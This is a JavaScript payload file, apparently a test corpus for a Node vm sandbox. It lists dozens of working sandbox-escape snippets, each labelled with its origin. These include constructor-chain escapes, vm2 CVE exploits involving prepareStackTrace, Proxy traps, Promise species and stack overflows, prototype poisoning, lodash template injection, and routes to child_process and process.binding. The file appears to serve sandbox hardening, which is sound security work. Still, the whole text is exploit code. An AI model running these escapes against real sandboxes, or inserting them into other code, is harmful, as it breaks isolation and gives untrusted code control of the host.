// Ways out of a `vm` context that were published for Node's vm and for vm2, or follow from what this sandbox
// lends. Each is the body of an async function and returns whatever it got hold of; loot.js then does with it
// what an attacker would. A marker line `//# name | where it is from` begins each.

//# this constructor | Node vm, the classic
return this.constructor.constructor;
//# globalThis constructor | Node vm, the classic with a strict mode twist
return globalThis.constructor.constructor;
//# prototype of the global | Node vm, the sandbox object's own prototype
return Object.getPrototypeOf(globalThis)?.constructor?.constructor ?? globalThis.__proto__.constructor.constructor;
//# constructor of require | Node vm, any host function in the sandbox
return require.constructor;
//# constructor of console.log | Node vm, any host function in the sandbox
return console.log.constructor;
//# constructor of setTimeout | Node vm, timers lent by the host
return setTimeout.constructor;
//# timer object | Node vm, what setTimeout returns
const timer = setTimeout(() => {}, 1); clearTimeout(timer); return timer.constructor.constructor;
//# this inside a timer | Node vm, the host calls back with its own this
return await new Promise((done) => setTimeout(function () { done(this?.constructor?.constructor); }, 1));
//# immediate object | Node vm, what setImmediate returns
const immediate = setImmediate(() => {}); return immediate.constructor.constructor;
//# constructor of Buffer | vm2 advisory on Buffer, 2016
return Buffer.constructor;
//# Buffer.from result | vm2 issue 32
return Buffer.from('x').constructor.constructor;
//# prototype chain of a Buffer | vm2 issue 32, climbing further
let up = Buffer.alloc(1); while (Object.getPrototypeOf(up)) up = Object.getPrototypeOf(up); return up.constructor.constructor;
//# Buffer.prototype.inspect | vm2, deprecated inspect hook on a lent prototype
return (Buffer.prototype.inspect ?? Buffer.prototype.toString).constructor;
//# arguments.callee.caller | Node vm, sloppy functions see who called them
return (function f() { return f.caller?.constructor ?? arguments.callee.caller?.constructor; })();
//# caller through a getter of the answer | Node vm, the serialiser as the caller
let seen; JSON.stringify({ toJSON: function f() { seen = f.caller; return 1; } }); return seen?.constructor;
//# prepareStackTrace getThis | CVE-2022-36067 (SandBreak)
const old = Error.prepareStackTrace; Error.prepareStackTrace = (_, sites) => sites; const sites = new Error().stack; Error.prepareStackTrace = old;
for (const site of sites) { const that = site.getThis?.(); if (that) return that.constructor.constructor; } return sites[0]?.constructor?.constructor;
//# prepareStackTrace getFunction | CVE-2022-36067, the function instead of its this
Error.prepareStackTrace = (_, sites) => sites; const sites = new Error().stack; delete Error.prepareStackTrace;
for (const site of sites) { const f = site.getFunction?.(); if (f) return f.constructor; } return null;
//# a new Error class over the old | CVE-2022-36067, globalThis.Error replaced
globalThis.OldError = Error; globalThis.Error = {}; globalThis.Error.prepareStackTrace = (_, sites) => sites;
try { null.x; } catch (e) { const s = e.stack; globalThis.Error = OldError; return Array.isArray(s) ? s[0]?.getThis?.()?.constructor?.constructor : s; }
//# host error through prepareStackTrace | CVE-2023-29017, unhandled async error
Error.prepareStackTrace = (e, frames) => { globalThis.frames = frames; return ''; };
(async () => {}).constructor('return process')().catch?.(() => {}); try { await structuredClone(() => {}); } catch (e) { e.stack; return globalThis.frames?.constructor?.constructor ?? e.constructor.constructor; }
//# error sanitising by name | CVE-2023-29199
const e = new Error(); e.name = { toString: new Proxy(() => '', { apply: (t, that, args) => { globalThis.caught = args.constructor.constructor; return ''; } }) };
try { console.log(e); e.stack; } catch {} return globalThis.caught;
//# proxy getPrototypeOf throws a host error | CVE-2023-30547
const err = {}; const trap = { getPrototypeOf() { (function deep() { new Error().stack; deep(); })(); } };
try { throw new Proxy(err, trap); } catch (e) { try { return e.constructor.constructor; } catch (f) { return f.constructor.constructor; } }
//# proxy apply in an error's name | CVE-2023-32314
const e = new Error(); e.name = { toString: new Proxy(() => '', { apply(t, that, args) { globalThis.found = args.constructor.constructor('return process'); throw args; } }) };
try { e.stack; } catch {} return globalThis.found;
//# promise species | CVE-2023-37466
async function fails() { await null; (() => { (function stack() { new Error().stack; stack(); })(); })(); }
const p = fails(); p.constructor = { [Symbol.species]: class { constructor(run) { run((x) => x, (e) => { globalThis.host = e; }); } } }; try { p.then(); } catch {} await new Promise((d) => setTimeout(d, 5)); p.catch(() => {}); return globalThis.host?.constructor?.constructor;
//# custom inspect | CVE-2023-37903
const thief = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { globalThis.inspected = inspect.constructor; return ''; } };
console.log(thief); try { WebAssembly.compileStreaming(thief).catch(() => {}); } catch {} return globalThis.inspected;
//# Deno custom inspect | the same hook under Deno's name
console.log({ [Symbol.for('Deno.customInspect')]: (inspect) => { globalThis.inspected = inspect.constructor; return ''; } }); return globalThis.inspected;
//# import of a builtin | CVE-2021-23449, dynamic import in vm2
return (await import('node:process')).default;
//# import through a function | CVE-2021-23449, from a host Function
return await Buffer.constructor('return import("node:fs")')();
//# stack overflow hands out a host error | CVE-2019-10761
const deep = () => { try { Buffer.from('a').toString(); deep(); } catch (e) { globalThis.overflow ??= e; } }; try { deep(); } catch (e) { globalThis.overflow ??= e; } return globalThis.overflow?.constructor?.constructor;
//# overflow inside require | CVE-2019-10761, with a host function that throws
let caught; const down = () => { try { require('lodash'); down(); } catch (e) { caught ??= e; throw e; } }; try { down(); } catch {} return caught?.constructor?.constructor;
//# host error from an async host call | CVE-2021-23555
try { await fetch('http://'); } catch (e) { return e.constructor.constructor; }
//# array species over a host array | vm2 issue 138
const list = Buffer.constructor('return []')(); list.constructor = { [Symbol.species]: function () { globalThis.target = this; return []; } }; list.map((x) => x); return globalThis.target?.constructor?.constructor ?? list.push.constructor;
//# poisoned Object.prototype.has | vm2 issue 184
Object.prototype.has = function () { globalThis.stolen = this; return true; }; Object.prototype.get = function () { globalThis.stolen = this; }; try { new Proxy({}, {}).x; require('lodash'); } catch {} delete Object.prototype.has; delete Object.prototype.get; return globalThis.stolen?.constructor?.constructor;
//# poisoned Function.prototype.call | vm2 issue 199
const real = Function.prototype.call; Function.prototype.call = function (...args) { globalThis.stolen ??= args[0]; return Reflect.apply(real, this, args); };
try { console.log('x'); require('lodash'); } catch {} Function.prototype.call = real; return globalThis.stolen?.constructor?.constructor;
//# poisoned Array.prototype methods | vm2 issue 197
const push = Array.prototype.push; Array.prototype.push = function (...args) { globalThis.stolen ??= [this, ...args]; return Reflect.apply(push, this, args); };
try { console.log('x', [1]); } catch {} Array.prototype.push = push; return globalThis.stolen?.[0]?.constructor?.constructor;
//# poisoned Promise.prototype.then | vm2, the host awaits what the sandbox made
const then = Promise.prototype.then; Promise.prototype.then = function (done, failed) { globalThis.stolen ??= done; return Reflect.apply(then, this, [done, failed]); }; const p = (async () => {})(); p.then(() => {}); Promise.prototype.then = then; return globalThis.stolen?.constructor;
//# a thenable answer catches the host's resolve | vm2, await of a sandbox object
let resolve; await { then(done) { resolve = done; done(); } }; return resolve.constructor;
//# the global object as a thenable | vm2, await of the context itself
globalThis.then = (done) => { globalThis.stolen = done; done(); }; try { await globalThis; } finally { delete globalThis.then; } return globalThis.stolen?.constructor;
//# toPrimitive on a host argument | vm2, coercion inside the host
let stolen; try { require({ [Symbol.toPrimitive]: function f(...args) { stolen = f.caller ?? args; return 'lodash'; } }); } catch {} return stolen?.constructor?.constructor;
//# getters on a printed object | vm2, the host looks at a sandbox object
let stolen; console.log({ get x() { stolen = new Error().stack; return 1; } }); console.dir(new Proxy(function () {}, { get(t, k, r) { stolen ??= r; return t[k]; }, ownKeys(...a) { stolen = a; return []; } })); return stolen?.constructor?.constructor;
//# proxy traps of a printed object | vm2 issue 241
let stolen; console.log(new Proxy({}, { ownKeys(...args) { stolen = args; return []; }, getOwnPropertyDescriptor(...args) { stolen = args; } })); return stolen?.constructor?.constructor;
//# symbol toStringTag | vm2 issue 187
let stolen; const tagged = { get [Symbol.toStringTag]() { stolen = arguments.callee.caller; return 'x'; } }; String(tagged); console.log(tagged); return stolen?.constructor;
//# Reflect.construct with a host newTarget | vm2, GetPrototypeFromConstructor crosses realms
const made = Reflect.construct(Function, ['return globalThis'], Buffer.from); return made.constructor;
//# Reflect.construct of a bound host function | vm2, same with bind
return Reflect.construct(Function, [], URL.bind(null)).constructor;
//# getPrototypeOf of a generator | Node vm, GeneratorFunction of the host
return Object.getPrototypeOf(Buffer.constructor('return function* () {}')()).constructor;
//# AsyncFunction of the host | Node vm, the async constructor
return Object.getPrototypeOf(fetch).constructor;
//# AsyncFunction of the inside | Node vm, inner constructor only
return (async () => {}).constructor;
//# indirect eval | Node vm
return (0, eval)('this').constructor.constructor;
//# Function returns the global | Node vm
return Function('return this')().constructor.constructor;
//# __defineGetter__ on the context | Node vm, interceptors of the contextified object
globalThis.__defineGetter__('trapped', function () { return this; }); return globalThis.trapped.constructor.constructor;
//# __lookupGetter__ of a host accessor | Node vm, accessors keep their realm
return Object.getOwnPropertyDescriptor(URL.prototype, 'href').get.constructor;
//# symbols shared by realms | Node vm, Symbol.for is one registry
return Symbol.for('nodejs.util.promisify.custom').constructor && setTimeout[Symbol.for('nodejs.util.promisify.custom')]?.constructor;
//# host error from URL | Node vm, an exception of a host constructor
try { new URL('::'); } catch (e) { return e.constructor.constructor; }
//# host error from atob | Node vm, a DOMException of the host
try { atob('*'); } catch (e) { return e.constructor.constructor; }
//# host error from require | Node vm, MODULE_NOT_FOUND comes from outside
try { require('no-such-module'); } catch (e) { return e.constructor.constructor; }
//# structuredClone result | Node vm, the copy is made outside
return structuredClone({}).constructor.constructor;
//# structuredClone of an error | Node vm, the copy is made outside
return structuredClone(new Error('x')).constructor.constructor;
//# TextEncoder result | Node vm, a host typed array
return new TextEncoder().encode('x').constructor.constructor;
//# typed array from crypto | Node vm, a host promise
return crypto.subtle.digest('SHA-256', Buffer.from('x')).constructor.constructor;
//# AbortSignal event | Node vm, the host dispatches an event
const controller = new AbortController(); let seen; controller.signal.addEventListener('abort', function (event) { seen = event; }); controller.abort(); return seen.constructor.constructor;
//# EventTarget listener's this | Node vm, the host calls a sandbox function
let that; const target = new EventTarget(); target.addEventListener('x', function () { that = this; }); target.dispatchEvent(new Event('x')); return that.constructor.constructor;
//# iterators of URLSearchParams | Node vm, the iterator's realm
return new URLSearchParams('a=b').entries().next().value.constructor.constructor;
//# a stream's controller | Node vm, the host calls start with a host object
let given; new ReadableStream({ start(c) { given = c; } }); return given.constructor.constructor;
//# Blob's promise | Node vm, a host promise's then
return new Blob(['x']).text().then.constructor;
//# Headers iteration callback | Node vm, forEach of the host
let args; new Headers({ a: 'b' }).forEach(function (...all) { args = all; }); return args[2].constructor.constructor;
//# performance entries | Node vm, host arrays
return performance.now.constructor;
//# WebAssembly import | vm2, wasm calls back across realms
const bytes = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,7,1,1,97,1,98,0,0,8,1,0]);
let caller; new WebAssembly.Instance(new WebAssembly.Module(bytes), { a: { b: function f() { caller = f.caller; } } }); return caller?.constructor;
//# FinalizationRegistry and WeakRef | vm2, callbacks run by the engine
return new WeakRef(Buffer).deref().constructor;
//# hasInstance bridge | this sandbox, instanceof asks the outer realm
let seen; try { new Proxy({}, { getPrototypeOf(...args) { seen = args; return null; } }) instanceof Date; } catch (e) { seen = e; } return seen?.constructor?.constructor;
//# hasInstance function itself | this sandbox, the bridge's own function
return Date[Symbol.hasInstance].constructor;
//# replaced JSON before the answer | this sandbox, the serialiser's primitives
JSON.stringify = (...args) => { globalThis.stolen = args; return '"x"'; }; JSON.parse = (...args) => { globalThis.stolen = args; }; return globalThis.stolen?.constructor?.constructor ?? Function;
//# module.constructor._load | Node, the module object
return module.constructor._load?.('child_process') ?? module.constructor.constructor;
//# require.main and require.cache | Node, the loader's tables
return require.main ?? require.cache ?? require.extensions ?? require.resolve ?? require.constructor;
//# process.mainModule | Node, the old way to require
return process.mainModule?.require('child_process') ?? process.constructor.constructor;
//# process.binding | Node, the internals
return process.binding?.('spawn_sync') ?? process.getBuiltinModule?.('fs') ?? Buffer.constructor('return process.binding("spawn_sync")')();
//# lodash template | lodash CVE-2021-23337, code through a template option
return require('lodash').template('', { variable: '){ return globalThis }; with(obj' })();
//# lodash template imports | lodash, Function of the outer realm compiles it
return require('lodash').template('<% stolen.push(globalThis) %>', { imports: { stolen: (globalThis.bag = []) } })() ?? globalThis.bag[0];
//# lodash prototype pollution | CVE-2019-10744, the outer Object.prototype
const victim = {}; require('lodash').set(victim, 'constructor.prototype.polluted', 1); require('lodash').set(Buffer, '__proto__.polluted', 1); return Buffer.constructor;
//# lodash constructor | this sandbox, a lent module
return require('lodash').constructor;
//# pg type parsers | this sandbox, the outer realm calls a parser
const { types } = require('pg'); let that; types.setTypeParser(16, function () { that = this; return 1; }); types.getTypeParser(16)('t'); return that?.constructor?.constructor ?? types.setTypeParser.constructor;
//# bcrypt callback | this sandbox, the outer realm calls back
return await new Promise((done) => require('bcrypt').hash('x', 4, function (...args) { done(this?.constructor?.constructor ?? args.constructor.constructor); }));
//# axios adapter | this sandbox, the outer realm hands over its configuration
return await require('axios').get('http://127.0.0.1/', { adapter: (config) => Promise.resolve({ data: config.constructor.constructor, status: 200, config, headers: {} }) }).then((r) => r.data);
//# mongodb BSON | this sandbox, serialisation calls toBSON
let that; require('mongodb').BSON.serialize({ x: { toBSON: function () { that = this; return 1; } } }); return require('mongodb').BSON.serialize.constructor;
//# mysql2 escape | this sandbox, toSqlString is called outside
let f; require('mysql2').escape({ toSqlString: function g() { f = g.caller; return 'x'; } }); return f?.constructor ?? require('mysql2').escape.constructor;
//# ShadowRealm | a realm within the realm
return new ShadowRealm().evaluate('globalThis.constructor.constructor');
//# host promise of import() rejection | Node vm, the rejection is made outside
try { await import('nothing'); } catch (e) { return e.constructor.constructor; }
//# Iterator helpers | newer built-ins with a host receiver
return Iterator.from(new URLSearchParams('a=b')).map((x) => x).next().value.constructor.constructor;
//# source text breakout | wrapping a script's text, HTML comments and all
return (function () { return eval('<!-- x\nthis.constructor.constructor\n--> y'); })();
